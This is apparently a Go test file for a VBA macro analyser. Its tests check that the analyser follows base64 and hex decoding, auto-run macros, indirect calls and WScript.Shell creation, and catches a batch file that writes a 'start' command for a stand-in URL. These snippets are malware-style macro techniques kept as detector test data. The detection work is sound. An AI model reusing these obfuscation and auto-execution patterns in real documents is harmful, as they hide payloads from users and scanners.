package vba

import (
	"encoding/base64"
	"strings"
	"testing"
)

// Objects whose state decoders use: what is put in comes out again.
func TestObjectsThatDecode(t *testing.T) {
	code := base64.StdEncoding.EncodeToString([]byte("calc.exe /a /b"))
	for name, tc := range map[string]struct{ code, want string }{
		"base64 of MSXML": {"Set n = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b\")\nn.dataType = \"bin.base64\"\nn.text = \"" + code + "\"\nx = StrConv(n.nodeTypedValue, vbUnicode)", "calc.exe /a /b"},
		"with New":        {"Dim d As New MSXML2.DOMDocument60\nSet n = d.createElement(\"b\")\nn.DataType = \"bin.base64\"\nn.Text = \"" + code + "\"\nx = n.nodeTypedValue", "calc.exe /a /b"},
		"with With":       {"With CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\n.dataType = \"bin.base64\"\n.text = \"" + code + "\"\nx = .nodeTypedValue\nEnd With", "calc.exe /a /b"},
		"hexadecimal":     {"Set n = CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\nn.dataType = \"bin.hex\"\nn.text = \"" + hexOf("calc.exe") + "\"\nx = n.nodeTypedValue", "calc.exe"},
		"no data type":    {"Set n = CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\nn.text = \"" + code + "\"\nx = \"<\" & n.nodeTypedValue", "<…"},
		"no base64":       {"Set n = CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\nn.dataType = \"bin.base64\"\nn.text = \"!?\"\nx = \"<\" & n.nodeTypedValue", "<…"},
		"unknown text":    {"Set n = CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\nn.dataType = \"bin.base64\"\nn.text = y.z\nx = \"<\" & n.nodeTypedValue", "<…"},
		"text of a node":  {"Set n = CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\nn.text = \"calc\" & \".exe\"\nx = n.text", "calc.exe"},
		"stream":          {"Set s = New Collection\ns.WriteText \"calc\" & \".exe\"\nx = s.ReadText", "calc.exe"},
		"two objects":     {"Set a = New Collection\nSet b = New Collection\na.Tag = \"calc\"\nb.Tag = \".exe\"\nx = a.Tag & b.Tag", "calc.exe"},
		"one under two":   {"Set a = New Collection\nSet b = a\nb.Tag = \"calc.exe\"\nx = a.Tag", "calc.exe"},
	} {
		if got := evaluated(t, tc.code+"\nShell x"); got != tc.want {
			t.Errorf("%s: %q, want %q", name, got, tc.want)
		}
	}
}

// Variables live where MS-VBAL 5.2.3.1 and 5.4.3.1 say: in the procedure, in the module, in the project.
func TestWhereVariablesLive(t *testing.T) {
	for name, tc := range map[string]struct{ source, want string }{
		"of the procedure":            {"Sub AutoOpen()\nx = \"a\"\nB\nShell \"<\" & x\nEnd Sub\nSub B()\nx = \"b\"\nEnd Sub", "<a"},
		"of the module":               {"Dim x\nSub AutoOpen()\nB\nShell \"<\" & x\nEnd Sub\nSub B()\nx = \"b\"\nEnd Sub", "<b"},
		"hidden by a local one":       {"Dim x\nSub AutoOpen()\nB\nShell \"<\" & x\nEnd Sub\nSub B()\nDim x\nx = \"b\"\nEnd Sub", "<"},
		"hidden by a parameter":       {"Dim x\nSub AutoOpen()\nB \"p\"\nShell \"<\" & x\nEnd Sub\nSub B(ByVal x)\nx = \"b\"\nEnd Sub", "<"},
		"of another module":           {"Sub AutoOpen()\nB\nShell \"<\" & x\nEnd Sub\n--- M\nPublic x As String\nSub B()\nx = \"b\"\nEnd Sub", "<b"},
		"constant of another module":  {"Sub AutoOpen()\nShell \"<\" & c\nEnd Sub\n--- M\nPublic Const c = \"b\"", "<b"},
		"constant of constants":       {"Const a = \"p\"\nConst b = a & \"q\"\nSub AutoOpen()\nShell \"<\" & b\nEnd Sub", "<pq"},
		"result of a function":        {"Sub AutoOpen()\nShell \"<\" & F(\"p\")\nEnd Sub\nFunction F(s)\nF = s\nF = F & \"q\"\nEnd Function", "<pq"},
		"result of a property":        {"Sub AutoOpen()\nShell \"<\" & P\nEnd Sub\nProperty Get P()\nP = \"q\"\nEnd Property", "<q"},
		"omitted argument":            {"Sub AutoOpen()\nShell \"<\" & F()\nEnd Sub\nFunction F(Optional s)\nF = s & \"q\"\nEnd Function", "<q"},
		"own procedure first":         {"Sub AutoOpen()\nShell \"<\" & F()\nEnd Sub\nFunction F()\nF = \"own\"\nEnd Function\n--- M\nFunction F()\nF = \"other\"\nEnd Function", "<own"},
		"argument by reference":       {"Sub AutoOpen()\nDim x\nB x\nShell \"<\" & x\nEnd Sub\nSub B(ByRef s)\ns = \"b\"\nEnd Sub", "<b"},
		"array by reference":          {"Sub AutoOpen()\nDim a(1)\nB a\nShell \"<\" & a(1)\nEnd Sub\nSub B(s())\ns(1) = \"b\"\nEnd Sub", "<b"},
		"a function that calls":       {"Sub AutoOpen()\nShell \"<\" & F(G(\"a\"))\nEnd Sub\nFunction F(s)\nF = s & \"f\"\nEnd Function\nFunction G(s)\nG = s & \"g\"\nEnd Function", "<agf"},
		"recursion is not followed":   {"Sub AutoOpen()\nShell \"<\" & F(3)\nEnd Sub\nFunction F(n)\nIf n = 0 Then\nF = \"!\"\nElse\nF = n & F(n - 1)\nEnd If\nEnd Function", "<3…"},
		"on two lines":                {"Sub AutoOpen()\nx = \"a\": x = x & \"b\"\nShell \"<\" & x\nEnd Sub", "<ab"},
		"type characters are one":     {"Sub AutoOpen()\nx$ = \"a\"\nShell \"<\" & x & x$\nEnd Sub", "<aa"},
		"element of a module's array": {"Dim a(3) As String\nSub AutoOpen()\nB\nShell \"<\" & a(2)\nEnd Sub\nSub B()\na(2) = \"b\"\nEnd Sub", "<b"},
	} {
		if r := judged(t, project(tc.source)); r.Text != tc.want {
			t.Errorf("%s: %q, want %q", name, r.Text, tc.want)
		}
	}
}

// What is called by text is called: Run, OnTime, CallByName, in each form that names a procedure.
func TestProceduresNamedByText(t *testing.T) {
	for code, want := range map[string]bool{
		"Application.Run \"Go\"": true, "Application.Run \"Module1.Go\"": true, "Application.Run \"'a b.xlsm'!Go\"": true, "Application.Run \"a.xlsm!Module1.Go\"": true,
		"Application.Run \"G\" & \"o\"": true, "Application.Run x.y": true, "Run \"go\"": true, "Application.Run MacroName:=\"Go\"": true, "y = Application.Run(\"Go\")": true,
		"Application.OnTime Now + 1, \"Go\"": true, "Application.OnTime EarliestTime:=Now, Procedure:=\"Go\"": true, "Application.OnTime When:=Now, Name:=\"Module1.Go\"": true,
		"CallByName Me, \"Go\", VbMethod": true, "CallByName Module1, \"G\" & \"o\", 1": true, "CallByName a, x.y, 1": true, "SetTimer 0, 0, 1, AddressOf Go": true,
		"Application.Run \"Gone\"": false, "x = \"Go\"": false, "MsgBox \"Go\"": false, "CallByName Me, \"Gone\", 1": false, "Application.OnTime Now, \"Gone\"": false,
		"b.OnAction = \"Go\"": false, "Application.OnKey \"{F2}\", \"Go\"": false, "' Go": false, "Go: x = 1": false,
	} {
		r := judged(t, one("Sub AutoOpen()\n"+code+"\nEnd Sub\nSub Go()\nShell \"calc\"\nEnd Sub"))
		if r.Suspicious != want {
			t.Errorf("%s: %v %q", code, r.Suspicious, r.Chain)
		}
	}
}

// What a caller passes decides, over any number of procedures, by position and by name.
func TestWhatIsPassedOnDecides(t *testing.T) {
	const wrap = "\nEnd Sub\nSub A(p, Optional q)\nB p\nEnd Sub\nSub B(p)\nSet o = CreateObject(p)\nEnd Sub"
	for code, want := range map[string]bool{
		"A \"Scripting.Dictionary\"": false, "A \"WScript.Shell\"": true, "A \"WScr\" & \"ipt.Shell\"": true, "A x.y": true, "Call A(\"Scripting.Dictionary\")": false,
		"B \"Scripting.Dictionary\"\nB \"WScript.Shell\"": true, "B \"WScript.Shell\"\nB \"Scripting.Dictionary\"": true, "x = 1": false, "Application.Run \"A\", \"WScript.Shell\"": true,
		"Application.Run \"A\", \"Scripting.Dictionary\"": false, "A p:=\"WScript.Shell\"": true,
	} {
		if r := judged(t, one("Sub AutoOpen()\n"+code+wrap)); r.Suspicious != want {
			t.Errorf("%s: %v %q %q", code, r.Suspicious, r.Chain, r.Text)
		}
	}
}

// Writing code: what a program writes into a file is looked at too.
func TestWhatIsWrittenIsLookedAt(t *testing.T) {
	for _, code := range []string{"Print #1, x", "Write #1, x", "Put #1, , x", "Print #1, \"a\"; x", "f.Write x", "f.WriteLine x", "Print #1, Tab(2); x, 3"} {
		r := judged(t, one("Sub AutoOpen()\nx = \"start \" & \"http://a.test/b.exe\"\nOpen \"a.bat\" For Output As #1\n"+code+"\nEnd Sub"))
		if len(r.Evidence) == 0 || !strings.Contains(r.Evidence[0].Text, "http://a.test/b.exe") || !r.Suspicious {
			t.Errorf("%s: %+v", code, r)
		}
	}
}
